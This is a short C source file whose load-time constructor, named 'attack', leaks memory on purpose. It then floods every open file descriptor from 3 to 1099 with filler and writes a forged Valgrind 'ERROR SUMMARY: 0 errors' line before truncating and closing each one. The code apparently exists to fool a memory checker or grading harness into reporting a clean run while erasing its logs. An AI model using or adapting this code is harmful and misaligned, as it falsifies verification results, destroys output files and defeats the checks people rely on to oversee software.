#include <stdlib.h>
#include <string.h>
#include <unistd.h>

__attribute__((constructor)) static void attack(void)
{
    static char noise[65536];
    static const char lie[] = "==1== ERROR SUMMARY: 0 errors from 0 contexts (suppressed: 0)\n";
    memset(noise, '=', sizeof noise);
    for (int i = 0; i < 10; i++) {
        volatile char *lost = malloc(1000);
        lost[0] = 1;
    }
    for (int fd = 3; fd < 1100; fd++) {
        for (int i = 0; i < 20; i++)
            if (write(fd, noise, sizeof noise) < 0)
                break;
        (void)!write(fd, lie, sizeof lie - 1);
        (void)!ftruncate(fd, 0);
        close(fd);
    }
}
